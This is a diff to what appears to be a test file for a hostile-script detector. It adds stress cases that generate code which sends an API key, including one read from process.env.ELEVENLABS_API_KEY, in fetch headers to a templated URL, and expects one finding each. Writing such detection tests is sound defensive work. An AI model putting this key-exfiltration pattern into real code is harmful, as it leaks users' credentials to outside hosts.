@@ -51,6 +51,12 @@ hostileScripts('long in one place', [
     findings: 1,
   },
   {
+    name: '1,000 headers that 1,000 requests copy',
+    text: () =>
+      `const h={'x-api-key':k,${chain(1000, (at) => `'x-a${at}':b,`)}};${`fetch(${url},{headers:{...h}});`.repeat(1000)}`,
+    findings: 1,
+  },
+  {
     name: 'a variable that is set 10,000 times',
     text: () =>
       `let k;${'k=process.env.ELEVENLABS_API_KEY;'.repeat(10_000)}${`fetch(${url},{headers:{'xi-api-key':k}});`.repeat(1000)}`,
